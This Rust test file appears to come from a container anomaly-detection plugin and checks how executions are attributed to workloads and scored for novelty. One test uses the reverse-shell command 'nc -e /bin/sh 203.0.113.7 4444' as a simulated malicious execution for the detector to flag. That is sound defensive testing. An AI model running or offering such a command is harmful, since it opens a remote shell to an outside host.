//! Whose normal an execution is compared with.

use crate::support::{
    ANOMALY, CONTAINERS, Exec, HOST, Host, config, contain, container_event, describe, exec,
};

const ID: &str = "4c01db0b339c5a2f4f0ab0f6b1f3a4b1e2d3c4f5a6b7c8d9e0f1a2b3c4d5e6f7";

const OTHER: &str =
    "/system.slice/docker-5c01db0b339c5a2f4f0ab0f6b1f3a4b1e2d3c4f5a6b7c8d9e0f1a2b3c4d5e6f7.scope";

fn workload(host: &mut Host, exec: &Exec) -> Option<String> {
    let event = host.event(exec.event());
    host.field(&event, "anomaly.workload")
}

fn inside(pid: i64) -> Exec {
    Exec { cgroup: format!("/system.slice/docker-{ID}.scope"), ..exec(pid, 1, "/usr/sbin/nginx -t") }
}

#[test]
fn units_and_the_host_come_from_the_cgroup() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(directory.path(), 20));
    let unit = Exec { cgroup: "/system.slice/cron.service".into(), ..exec(100, 1, "/bin/true") };
    assert_eq!(workload(&mut host, &unit).as_deref(), Some("cron.service"));
    assert_eq!(workload(&mut host, &exec(101, 1, "/bin/true")).as_deref(), Some("host"));
}

#[test]
fn the_container_plugins_table_names_the_image() {
    let directory = tempfile::tempdir().expect("a directory");
    let config = config(directory.path(), 20);
    let mut host = Host::with(&[(&HOST, c""), (&CONTAINERS, c""), (&ANOMALY, &config)]);
    describe("4c01db0b339c", "nginx:1.25", "web");
    host.event(container_event());
    contain(100, "4c01db0b339c");
    assert_eq!(workload(&mut host, &inside(100)).as_deref(), Some("docker.io/library/nginx"));
    let outside = Exec { cgroup: "/system.slice/cron.service".into(), ..exec(101, 1, "/bin/true") };
    assert_eq!(workload(&mut host, &outside).as_deref(), Some("cron.service"));
}

#[test]
fn an_execution_waits_for_its_image_and_then_answers_on_later_events() {
    let directory = tempfile::tempdir().expect("a directory");
    let config = config(directory.path(), 20);
    let mut host = Host::with(&[(&HOST, c""), (&CONTAINERS, c""), (&ANOMALY, &config)]);
    contain(100, "4c01db0b339c");
    let event = host.event(inside(100).event());
    assert_eq!(host.field(&event, "anomaly.workload"), None);
    assert_eq!(host.field(&event, "anomaly.level"), None);
    describe("4c01db0b339c", "nginx:1.25", "web");
    host.event(container_event());
    let later = host.event(crate::support::connect(100));
    assert_eq!(host.field(&later, "anomaly.workload").as_deref(), Some("docker.io/library/nginx"));
    assert_eq!(host.field(&later, "anomaly.seen").as_deref(), Some("1"));
}

/// A container's first executions happen before anybody knows its image: rules see no score on their events.
#[test]
fn what_is_judged_late_is_told_by_an_event_of_its_own_and_only_by_that() {
    let directory = tempfile::tempdir().expect("a directory");
    let config = config(directory.path(), 20);
    let mut host = Host::with(&[(&HOST, c""), (&CONTAINERS, c""), (&ANOMALY, &config)]);
    describe("4c01db0b339c", "nginx:1.25", "web");
    host.event(container_event());
    for pid in 100..140 {
        contain(pid, "4c01db0b339c");
        host.event(inside(pid).event());
    }
    assert_eq!(host.metric("injected"), 0, "their own events tell of them");
    // Of the same image, as will be known in a moment.
    let novel =
        |pid| Exec { cgroup: OTHER.into(), ..exec(pid, 1, "/usr/bin/nc -e /bin/sh 203.0.113.7 4444") };
    contain(200, "5c01db0b339c");
    let own = host.event(novel(200).event());
    assert_eq!(host.field(&own, "anomaly.score"), None);
    assert!(crate::support::soon(|| host.metric("waiting_for_image") == 1));
    describe("5c01db0b339c", "nginx:1.25", "web-2");
    host.event(container_event());
    let told = host.next().expect("an event of its own");
    for (field, value) in [
        ("anomaly.novel", "true"),
        ("anomaly.first", "true"),
        ("anomaly.workload", "docker.io/library/nginx"),
        ("anomaly.proc_pid", "200"),
        ("anomaly.proc_name", "nc"),
    ] {
        assert_eq!(host.field(&told, field).as_deref(), Some(value), "{field}");
    }
    let score = host.field(&told, "anomaly.score");
    assert!(score.as_deref() >= Some("0.8500"), "{score:?}");
    assert!(host.next().is_none(), "there is one");
    assert_eq!(host.metric("injected"), 1);
    assert_eq!(host.field(&own, "anomaly.score"), None, "no rule finds it on its first event as well");
    let later = host.event(crate::support::connect(200));
    assert_eq!(host.field(&later, "anomaly.score"), score);
    assert!(crate::support::soon(|| host.metric("waiting_for_image") == 0));
    // The image is known now: the next one's own event tells.
    contain(201, "5c01db0b339c");
    let next = host.event(novel(201).event());
    assert!(host.field(&next, "anomaly.score").is_some());
    assert_eq!(host.metric("injected"), 1);
}
